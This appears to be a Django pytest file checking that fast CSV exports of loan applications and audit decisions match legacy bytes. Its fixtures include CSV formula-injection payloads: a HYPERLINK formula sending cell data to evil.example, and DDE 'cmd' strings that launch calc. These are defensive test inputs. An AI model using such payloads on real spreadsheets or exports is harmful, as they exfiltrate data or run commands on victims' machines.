"""The fast exports (issue 16) write exactly the bytes the per-row path wrote, for the same rows.

``tests.support.legacy_exports`` is a verbatim copy of the exports before
they were made fast; each test builds a dataset with every kind of cell
(formulas, separators, accents, a pending application, too many reasons,
legacy and case overrides, a change back to the model's decision) and
compares the download with the legacy bytes of the same query. Chunks and
batches are made small so their boundaries fall inside the dataset. Runs on
SQLite and PostgreSQL (``DATABASE_URL``).
"""

from __future__ import annotations

import datetime as dt

import pytest

from accounts import roles
from applications import selectors as application_selectors
from applications.models import LoanApplication
from audit.selectors import decision_csv_rows
from infrastructure import csv_export
from tests.support.audit import legacy_override
from tests.support.exports import complete_export
from tests.support.factories import UserFactory, application_form_data, submit_form
from tests.support.legacy_exports import legacy_application_rows, legacy_csv_bytes, legacy_decision_rows
from tests.support.reviews import decide_by_review

pytestmark = pytest.mark.django_db

REFERENCES = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-1+1",
    "@SUM(1+1)",
    "x;=cmd|' /C calc'!A0;",
    "a, +1",
    "ok;fine",
    'quote "inside"',
    "Zoë Ångström-Ñúñez",
    "",
]


@pytest.fixture
def small_chunks(monkeypatch):
    """Chunks of 7 rows and override batches of 5: their boundaries fall inside the dataset."""
    monkeypatch.setattr(csv_export, "ROWS_PER_CHUNK", 7)
    monkeypatch.setattr(application_selectors, "_CSV_OVERRIDE_BATCH", 5)


def _another(decision: str) -> str:
    return "REVIEW" if decision != "REVIEW" else "DECLINE"


@pytest.fixture
def dataset(db):
    alice = UserFactory(role=roles.OFFICER, username="alice")
    bob = UserFactory(role=roles.OFFICER, username="bob;=1")
    reviewer = UserFactory(role=roles.REVIEWER, username="rita")
    applications = []
    for number in range(24):
        reference = REFERENCES[number % len(REFERENCES)]
        reference = f"{reference}-{number}" if reference else ""
        intent = ("EDUCATION", "MEDICAL", "DEBTCONSOLIDATION", "VENTURE")[number % 4]
        application = submit_form(
            officer=alice if number % 3 else bob,
            data=application_form_data(
                applicant_reference=reference, loan_amnt=str(1000 + 137 * number), loan_intent=intent
            ),
        )
        applications.append(application)
    # Spread over days and times (the export writes them to the second, in UTC).
    for number, application in enumerate(applications):
        moment = dt.datetime(2025, 3, 1, 23, 59, 59, 999_999, tzinfo=dt.UTC) + dt.timedelta(days=number, hours=number)
        LoanApplication.objects.filter(pk=application.pk).update(created_at=moment)
    # A pending application (no score, no decision), and one with more reasons than the export has columns.
    LoanApplication.objects.filter(pk=applications[1].pk).update(
        status=LoanApplication.Status.PENDING,
        probability_of_default=None,
        decision="",
        final_decision="",
        risk_label="",
        reasons=[],
        scored_at=None,
        model_version="",
        model_sha256="",
    )
    LoanApplication.objects.filter(pk=applications[2].pk).update(
        reasons=[{"text": f"=reason {n}, -{n}"} for n in range(6)] + [{"code": "no text"}]
    )
    # Decisions changed in force: by a case decision, a legacy override, and a change back to the model's.
    for application, explanation in (
        (applications[3], "Collateral; =1+1 on file."),
        (applications[8], "A plain explanation, long enough."),
    ):
        application.refresh_from_db()
        target = "APPROVE" if application.final_decision != "APPROVE" else "DECLINE"
        decide_by_review(application, target, reviewer=reviewer, explanation=explanation)
    legacy = applications[12]
    legacy.refresh_from_db()
    legacy_override(legacy, reviewer=reviewer, to_decision=_another(legacy.decision), reason="+legacy, =reason")
    back = applications[15]
    back.refresh_from_db()
    legacy_override(back, reviewer=reviewer, to_decision=_another(back.decision), reason="First.")
    legacy_override(back, reviewer=reviewer, to_decision=back.decision, reason="Back to the model's decision.")
    return {"alice": alice, "reviewer": reviewer}


def _download(client, url: str) -> bytes:
    response = client.get(url)
    assert response.status_code == 200
    return b"".join(response.streaming_content)


@pytest.mark.parametrize(
    "query",
    [
        {},
        {"sort": "pd_high"},
        {"sort": "amount_high"},
        {"q": "a"},
        {"decision": "REVIEW"},
        {"overridden": "yes"},
        {"overridden": "no"},
        {"date_from": "2025-03-05", "date_to": "2025-03-20"},
    ],
)
def test_application_export_bytes_are_those_of_the_per_row_path(client, dataset, small_chunks, query):
    client.force_login(dataset["reviewer"])
    raw = _download(client, "/applications/export.csv?" + "&".join(f"{k}={v}" for k, v in query.items()))
    form = application_selectors.history_filter_form(user=dataset["reviewer"], data=query)
    assert not form.is_bound or form.is_valid()
    queryset = application_selectors.application_list(user=dataset["reviewer"], filters=form.filters())
    assert raw == legacy_csv_bytes(legacy_application_rows(queryset), end_marker=True)
    complete_export(raw)
    if not query:
        assert raw.count(b"\r\n") == 24 + 2  # every application, the header and the end line


def test_an_officers_application_export_is_byte_identical_and_only_their_own(client, dataset, small_chunks):
    client.force_login(dataset["alice"])
    raw = _download(client, "/applications/export.csv")
    queryset = application_selectors.application_list(user=dataset["alice"], filters={})
    assert raw == legacy_csv_bytes(legacy_application_rows(queryset), end_marker=True)
    assert b"bob;" not in raw and raw.count(b"\r\n") == 16 + 2


def test_decision_export_bytes_are_those_of_the_per_row_path(client, dataset, small_chunks):
    client.force_login(UserFactory(role=roles.AUDITOR))
    raw = _download(client, "/audit/decisions.csv")
    assert raw == legacy_csv_bytes(legacy_decision_rows(), end_marker=True)
    assert raw == b"".join(
        s.encode() for s in [csv_export.BOM, *csv_export.csv_lines(decision_csv_rows(), end_marker=True)]
    )
    complete_export(raw)


@pytest.mark.parametrize("chunk", [1, 2, 256])
def test_chunking_does_not_change_the_bytes(monkeypatch, chunk):
    rows = [["a", "b"], *([f"=R-{i}", i, -0.5 * i, None, True, dt.date(2026, 1, i % 28 + 1)] for i in range(300))]
    monkeypatch.setattr(csv_export, "ROWS_PER_CHUNK", chunk)
    fast = "".join(csv_export.csv_lines(rows, end_marker=True)).encode()
    assert csv_export.BOM.encode() + fast == legacy_csv_bytes(rows, end_marker=True)


class _Subclassed(str):
    """A str subclass (as Django's SafeString and lazy labels are): the general path, not the inline one."""


def test_random_cells_are_written_as_the_csv_module_wrote_them():
    """Text of separators, formula characters, quotes, line breaks and accents; numbers of each type; others."""
    import random
    from decimal import Decimal

    generator = random.Random(16)
    alphabet = ";, =+-@\t\r\n\"'abé€\x00"

    def cell():
        kind = generator.randrange(9)
        if kind == 0:
            return generator.randint(-(10**20), 10**20)
        if kind == 1:
            return generator.uniform(-1e6, 1e6) * 10 ** generator.randint(-30, 30)
        if kind == 2:
            return Decimal(generator.randint(-(10**8), 10**8)).scaleb(-generator.randint(0, 6))
        if kind == 3:
            return generator.choice([None, True, False, dt.date(2026, 2, 3), dt.datetime(2026, 2, 3, 4, 5, 6)])
        text = "".join(generator.choice(alphabet) for _ in range(generator.randint(0, 12)))
        return _Subclassed(text) if kind == 4 else text

    rows = [[cell() for _ in range(generator.randint(0, 6))] for _ in range(5000)]
    assert csv_export.BOM.encode() + "".join(csv_export.csv_lines(rows, end_marker=True)).encode() == legacy_csv_bytes(
        rows, end_marker=True
    )
